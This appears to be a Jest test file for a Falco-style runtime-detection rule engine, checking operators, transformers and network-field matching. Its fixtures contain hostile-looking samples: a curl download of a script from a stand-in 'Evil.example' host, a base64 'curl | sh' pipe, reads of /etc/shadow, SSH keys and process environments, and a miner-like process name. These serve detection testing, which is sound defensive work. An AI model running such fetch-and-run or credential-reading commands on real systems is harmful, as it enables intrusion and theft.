import { compileRules } from './index.js';
import { makeContext, type ContextInit } from './testing.js';

function ruleYaml(cond: string, name = 'R'): string {
  return `- rule: ${name}\n  desc: test\n  condition: ${JSON.stringify(cond)}\n  output: "out"\n  priority: WARNING\n`;
}

/** Compile one rule (plus optional lists/macros) and tell whether it fires for the context. */
function fires(cond: string, init: ContextInit = {}, prelude = ''): boolean {
  const set = compileRules([{ name: 't.yaml', text: prelude + ruleYaml(cond) }]);
  const bad = set.report.filter((r) => r.status !== 'loaded');
  if (bad.length) throw new Error(`rule did not load: ${JSON.stringify(bad)}`);
  return set.evaluate(makeContext(init)).length === 1;
}

const open = (name: string, extra: ContextInit = {}): ContextInit => ({ event: { type: 'openat', args: { name, flags: 'O_RDONLY' } }, fd: { name, type: 'file' }, ...extra });

describe('comparison operators', () => {
  it('= == != on strings, numbers and booleans', () => {
    expect(fires('fd.name = /etc/shadow', open('/etc/shadow'))).toBe(true);
    expect(fires('fd.name == /etc/shadow', open('/etc/passwd'))).toBe(false);
    expect(fires('fd.name != /etc/shadow', open('/etc/passwd'))).toBe(true);
    expect(fires('fd.name != /etc/shadow', open('/etc/shadow'))).toBe(false);
    expect(fires('user.uid = 0', {})).toBe(true);
    expect(fires('user.uid != 0', { proc: { uid: 1000 } })).toBe(true);
    expect(fires('evt.is_open_read = true', open('/x'))).toBe(true);
    expect(fires('evt.is_open_write = true', open('/x'))).toBe(false);
  });

  it('< <= > >= on numbers, and numerically on string args when the value is a number', () => {
    const ctx = { event: { type: 'read', rawres: 42, res: 42 } };
    expect(fires('evt.rawres > 41', ctx)).toBe(true);
    expect(fires('evt.rawres > 42', ctx)).toBe(false);
    expect(fires('evt.rawres >= 42', ctx)).toBe(true);
    expect(fires('evt.rawres < 43', ctx)).toBe(true);
    expect(fires('evt.rawres <= 41', ctx)).toBe(false);
    expect(fires('evt.arg.uid < 1000', { event: { type: 'setuid', args: { uid: 33 } } })).toBe(true);
    expect(fires('evt.arg.uid < 10', { event: { type: 'setuid', args: { uid: 33 } } })).toBe(false);
  });

  it('contains icontains startswith endswith', () => {
    const ctx = { proc: { name: 'curl', args: ['curl', '-sSL', 'http://Evil.example/x.sh'] } };
    expect(fires('proc.cmdline contains Evil.example', ctx)).toBe(true);
    expect(fires('proc.cmdline contains evil.example', ctx)).toBe(false);
    expect(fires('proc.cmdline icontains EVIL.EXAMPLE', ctx)).toBe(true);
    expect(fires('proc.cmdline startswith "curl -sSL"', ctx)).toBe(true);
    expect(fires('proc.cmdline startswith -sSL', ctx)).toBe(false);
    expect(fires('proc.cmdline endswith x.sh', ctx)).toBe(true);
    expect(fires('proc.cmdline endswith curl', ctx)).toBe(false);
  });

  it('bcontains and bstartswith compare hex bytes', () => {
    const ctx = { event: { type: 'read', args: { data: '\xca\xfe\xba\xbe\x00\x01' } }, fd: { name: '1.2.3.4:80->5.6.7.8:9', type: 'ipv4' as const } };
    expect(fires('evt.buffer bcontains feba', ctx)).toBe(true);
    expect(fires('evt.buffer bcontains babe01', ctx)).toBe(false);
    expect(fires('evt.buffer bstartswith cafe', ctx)).toBe(true);
    expect(fires('evt.buffer bstartswith babe', ctx)).toBe(false);
  });

  it('glob and iglob (fnmatch: * crosses /, ?, [...] and [!...])', () => {
    expect(fires("fd.name glob '/home/*/.ssh/*'", open('/home/bob/.ssh/id_rsa'))).toBe(true);
    expect(fires("fd.name glob '/home/*/.ssh/*'", open('/root/.ssh/id_rsa'))).toBe(false);
    expect(fires('fd.name glob /proc/*/environ', open('/proc/1/environ'))).toBe(true);
    expect(fires('fd.name glob /tmp/file?.[0-9]', open('/tmp/fileA.7'))).toBe(true);
    expect(fires('fd.name glob /tmp/file?.[!0-9]', open('/tmp/fileA.7'))).toBe(false);
    expect(fires('fd.name glob /TMP/*', open('/tmp/x'))).toBe(false);
    expect(fires('fd.name iglob /TMP/*', open('/tmp/x'))).toBe(true);
  });

  it('pmatch matches path prefixes component-wise, with globs', () => {
    expect(fires('fd.name pmatch (/var/run, /etc)', open('/etc/passwd'))).toBe(true);
    expect(fires('fd.name pmatch (/var/run, /etc)', open('/etc'))).toBe(true);
    expect(fires('fd.name pmatch (/var/run, /etc)', open('/etcetera/x'))).toBe(false);
    expect(fires('fd.name pmatch (/var/*/cache)', open('/var/lib/cache/x'))).toBe(true);
    expect(fires('fd.name pmatch (/var/*/cache)', open('/var/lib/other/x'))).toBe(false);
  });

  it('regex is anchored at both ends like Falco', () => {
    expect(fires("proc.name regex 'x[a-z]+d'", { proc: { name: 'xmrigd' } })).toBe(true);
    expect(fires("proc.name regex 'mrig'", { proc: { name: 'xmrigd' } })).toBe(false);
    expect(fires("proc.name regex '.*mrig.*'", { proc: { name: 'xmrigd' } })).toBe(true);
  });

  it('in and intersects use list membership', () => {
    expect(fires('proc.name in (bash, sh, zsh)', {})).toBe(true);
    expect(fires('proc.name in (bash, zsh)', {})).toBe(false);
    expect(fires('proc.name in ()', {})).toBe(false);
    expect(fires('user.uid in (0, 1)', {})).toBe(true);
    expect(fires('proc.args intersects ("-V", "-l")', { proc: { args: ['mount', '-l'] } })).toBe(true);
    expect(fires('proc.args intersects ("-V", "-h")', { proc: { args: ['mount', '-l'] } })).toBe(false);
  });

  it('exists, and missing values make every comparison false', () => {
    expect(fires('proc.pname exists', { ancestors: [{ name: 'bash' }] })).toBe(true);
    expect(fires('proc.pname exists', {})).toBe(false);
    expect(fires('not proc.pname exists', {})).toBe(true);
    expect(fires('proc.pname != bash', {})).toBe(false);
    expect(fires('not proc.pname = bash', {})).toBe(true);
  });

  it('val(field) compares against another field', () => {
    expect(fires('proc.name = val(proc.pname)', { proc: { name: 'sh' }, ancestors: [{ name: 'sh' }] })).toBe(true);
    expect(fires('proc.name = val(proc.pname)', { proc: { name: 'sh' }, ancestors: [{ name: 'bash' }] })).toBe(false);
    expect(fires('proc.pid > val(proc.ppid)', { proc: { pid: 10, ppid: 5 } })).toBe(true);
  });
});

describe('transformers', () => {
  it('tolower / toupper', () => {
    expect(fires('tolower(proc.name) = curl', { proc: { name: 'CuRL' } })).toBe(true);
    expect(fires('toupper(proc.name) = CURL', { proc: { name: 'cUrl' } })).toBe(true);
    expect(fires('tolower(proc.name) = CuRL', { proc: { name: 'CuRL' } })).toBe(false);
  });
  it('basename, nested with other transformers', () => {
    expect(fires('basename(proc.exepath) = nc', { proc: { exepath: '/usr/bin/nc' } })).toBe(true);
    expect(fires('toupper(basename(proc.exepath)) = NC', { proc: { exepath: '/usr/bin/nc' } })).toBe(true);
    expect(fires('basename(proc.exepath) = bin', { proc: { exepath: '/usr/bin/nc' } })).toBe(false);
  });
  it('b64 decodes base64', () => {
    const payload = Buffer.from('curl http://x | sh').toString('base64');
    expect(fires('b64(proc.args) contains "| sh"', { proc: { args: ['x', payload] } })).toBe(true);
    expect(fires('b64(proc.args) contains wget', { proc: { args: ['x', payload] } })).toBe(false);
  });
  it('len gives string length (and a number for comparisons)', () => {
    expect(fires('len(proc.name) > 3', { proc: { name: 'curl' } })).toBe(true);
    expect(fires('len(proc.name) = 3', { proc: { name: 'curl' } })).toBe(false);
    expect(fires('len(proc.aname) >= 2', { ancestors: [{ name: 'a' }, { name: 'b' }] })).toBe(true);
  });
});

describe('network fields', () => {
  const conn = (name: string, extra: Partial<{ isServer: boolean }> = {}): ContextInit => ({
    event: { type: 'connect', args: { addr: name } },
    fd: { name, type: 'ipv4', l4proto: 'tcp', connected: true, cip: name.split('->')[0]!.split(':')[0], cport: Number(name.split('->')[0]!.split(':')[1]), sip: name.split('->')[1]!.split(':')[0], sport: Number(name.split('->')[1]!.split(':')[1]), ...extra },
  });
  it('fd.sip / fd.snet / fd.net CIDR matching and any-endpoint semantics', () => {
    const c = conn('172.17.0.2:40000->169.254.169.254:80');
    expect(fires('fd.sip = 169.254.169.254', c)).toBe(true);
    expect(fires('fd.sip = "169.254.169.253"', c)).toBe(false);
    expect(fires('fd.snet = "169.254.0.0/16"', c)).toBe(true);
    expect(fires('fd.snet in ("10.0.0.0/8", "192.168.0.0/16")', c)).toBe(false);
    expect(fires('fd.net = "172.16.0.0/12"', c)).toBe(true); // client side matches
    expect(fires('fd.cnet = "172.16.0.0/12"', c)).toBe(true);
    expect(fires('fd.rnet = "172.16.0.0/12"', c)).toBe(false);
    expect(fires('fd.ip != "0.0.0.0"', c)).toBe(true);
    expect(fires('fd.sport = 80 and fd.rport = 80 and fd.lport = 40000', c)).toBe(true);
    expect(fires('fd.port in (80, 443)', c)).toBe(true);
  });
  it('local/remote swap for server sockets; IPv6 networks', () => {
    const c = conn('10.0.0.5:5555->172.17.0.2:22', { isServer: true });
    expect(fires('fd.lport = 22 and fd.rip = 10.0.0.5', c)).toBe(true);
    const v6: ContextInit = { event: { type: 'connect' }, fd: { name: '[fd00::1]:1->[2001:db8::5]:443', type: 'ipv6', l4proto: 'tcp' } };
    expect(fires('fd.snet = "2001:db8::/32" and fd.sport = 443', v6)).toBe(true);
    expect(fires('fd.snet = "2001:db9::/32"', v6)).toBe(false);
  });
});
